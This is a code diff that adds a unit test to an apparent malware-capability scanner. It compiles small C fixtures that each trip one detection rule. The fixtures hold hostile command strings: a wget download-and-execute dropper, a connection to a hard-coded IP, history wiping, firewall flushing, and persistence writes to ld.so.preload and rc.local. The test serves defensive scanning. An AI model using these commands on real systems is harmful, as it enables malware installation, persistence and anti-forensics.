@@ -441,6 +441,112 @@ static void test_user_rules(void **state)
 	th_rmtree(d);
 }
 
+/* One small program per remaining rule (x86-64, dynamic): each fires its
+ * rule; the clean programs of test_clean_pass fire none. */
+static void test_each_rule(void **state)
+{
+	static const struct {
+		const char *name, *rule, *body;
+		enum pst_severity sev;
+	} t[] = {
+		{ "rawfilter", "capability.raw-packet-filter",
+		  "static const struct sock_filter f[] = {{0x28,0,0,12},{0x15,0,3,0x800},{0x30,0,0,23},"
+		  "{0x15,0,1,17},{0x6,0,0,65535},{0x6,0,0,0}};"
+		  "int main(void){struct sock_fprog p={6,(struct sock_filter*)f};char b[64];"
+		  "int s=socket(17,3,0);setsockopt(s,1,26,&p,sizeof p);return (int)recv(s,b,64,0);}",
+		  PST_SEV_LOW },
+		{ "dropper", "capability.download-execute",
+		  "int main(void){return system(\"wget http://upd.example.net/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\");}",
+		  PST_SEV_HIGH },
+		{ "c2", "capability.c2-endpoint",
+		  "int main(void){struct sockaddr_in a={0};int s=socket(2,1,0);a.sin_family=2;"
+		  "inet_pton(2,\"45.9.148.3\",&a.sin_addr);connect(s,(void*)&a,sizeof a);return system(\"uname -a\");}",
+		  PST_SEV_MEDIUM },
+		{ "keys", "capability.keystroke-capture",
+		  "int main(void){char b[24];int f=open(\"/dev/input/event1\",0);return (int)read(f,b,24);}",
+		  PST_SEV_LOW },
+		{ "mic", "capability.audio-capture",
+		  "int main(void){char b[64];int f=open(\"/dev/dsp\",0),s=socket(2,1,0);connect(s,0,0);"
+		  "read(f,b,64);return (int)send(s,b,64,0);}",
+		  PST_SEV_MEDIUM },
+		{ "cam", "capability.camera-capture",
+		  "int main(void){return open(\"/dev/video0\",2);}", PST_SEV_LOW },
+		{ "screen", "capability.screen-capture",
+		  "int main(void){int f=open(\"/dev/fb0\",0);return mmap(0,4096,1,1,f,0)!=0;}", PST_SEV_LOW },
+		{ "masq", "capability.process-masquerade",
+		  "int main(void){prctl(15,\"[kworker/0:2]\");return 0;}", PST_SEV_MEDIUM },
+		{ "selfdel", "capability.self-delete",
+		  "int main(void){char b[256];readlink(\"/proc/self/exe\",b,256);unlink(b);"
+		  "return connect(socket(2,1,0),0,0);}", PST_SEV_LOW },
+		{ "antidbg", "capability.anti-debugging",
+		  "int main(void){char b[256];FILE*f=fopen(\"/proc/self/status\",\"r\");"
+		  "while(fgets(b,256,f))if(strstr(b,\"TracerPid\"))break;ptrace(0,0,0,0);"
+		  "return connect(socket(2,1,0),0,0);}", PST_SEV_LOW },
+		{ "wipe", "capability.log-wiping",
+		  "int main(void){return system(\"unset HISTFILE; history -c\");}", PST_SEV_HIGH },
+		{ "fw", "capability.firewall-tampering",
+		  "int main(void){return system(\"iptables -F; iptables -P INPUT ACCEPT\");}", PST_SEV_MEDIUM },
+		{ "wdog", "capability.watchdog-disable",
+		  "int main(void){int o=1,f=open(\"/dev/watchdog\",1);return ioctl(f,0x80045704,&o);}",
+		  PST_SEV_LOW },
+		{ "preload", "capability.preload-persistence",
+		  "int main(void){FILE*f=fopen(\"/etc/ld.so.preload\",\"a\");return fputs(\"/lib/x.so\",f);}",
+		  PST_SEV_HIGH },
+		{ "persist", "capability.persistence-write",
+		  "int main(void){connect(socket(2,1,0),0,0);return system(\"echo /tmp/x >> /etc/rc.local\");}",
+		  PST_SEV_MEDIUM },
+		{ "modload", "capability.kernel-module-load",
+		  "extern long init_module(void *, unsigned long, const char *);"
+		  "int main(void){static char m[64];return (int)init_module(m,64,\"\");}", PST_SEV_LOW },
+		{ "desd", "crypto.weak-cipher-network",
+		  "const unsigned char s1[16]={14,4,13,1,2,15,11,8,3,10,6,12,5,9,0,7};"
+		  "int main(int c,char**v){int s=socket(2,1,0);daemon(0,0);bind(s,0,0);listen(s,5);"
+		  "accept(s,0,0);return s1[c];}", PST_SEV_MEDIUM },
+	};
+	char *d = th_tmpdir();
+	struct pst_scan *s;
+	size_t i;
+	(void)state;
+	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		char src[4200];
+		FILE *f;
+		snprintf(src, sizeof(src), "%s/%s.c", d, t[i].name);
+		f = fopen(src, "w");
+		assert_non_null(f);
+		fprintf(f, "#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <fcntl.h>\n"
+			   "#include <unistd.h>\n#include <sys/mman.h>\n#include <sys/ioctl.h>\n"
+			   "#include <sys/prctl.h>\n#include <sys/ptrace.h>\n#include <sys/socket.h>\n"
+			   "#include <netinet/in.h>\n#include <arpa/inet.h>\n#include <linux/filter.h>\n%s\n",
+			t[i].body);
+		fclose(f);
+	}
+	th_sh("cd %s && mkdir bin && for c in *.c; do gcc -O2 -w -o bin/${c%%.c} $c & done; wait; "
+	      "test $(ls bin | wc -l) = %zu", d, sizeof(t) / sizeof(t[0]));
+	{
+		char p[4200];
+		snprintf(p, sizeof(p), "%s/bin", d);
+		s = th_scan(p, 2);
+	}
+	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		char where[64];
+		const struct pst_finding *f;
+		snprintf(where, sizeof(where), "/%s", t[i].name);
+		f = th_finding(s, t[i].rule, where);
+		if (!f)
+			fail_msg("%s did not fire %s", t[i].name, t[i].rule);
+		if (f->severity != t[i].sev)
+			fail_msg("%s: %s severity %d, want %d", t[i].name, t[i].rule, f->severity,
+				 t[i].sev);
+	}
+	/* No rule fires where its features are absent: nothing here is a shell. */
+	assert_null(th_finding(s, "capability.bind-shell", NULL));
+	assert_null(th_finding(s, "capability.reverse-shell", NULL));
+	assert_null(th_finding(s, "capability.packet-trigger", NULL));
+	assert_null(th_finding(s, "capability.keylogger", NULL));
+	pst_scan_free(s);
+	th_rmtree(d);
+}
+
 /* Truncated and bit-flipped binaries: the reader stays inside the file. */
 static void test_elf_mangled(void **state)
 {
@@ -488,6 +594,7 @@ int main(void)
 		cmocka_unit_test(test_kernel_module),
 		cmocka_unit_test(test_hardening),
 		cmocka_unit_test(test_crypto),
+		cmocka_unit_test(test_each_rule),
 		cmocka_unit_test(test_user_rules),
 		cmocka_unit_test(test_elf_mangled),
 	};
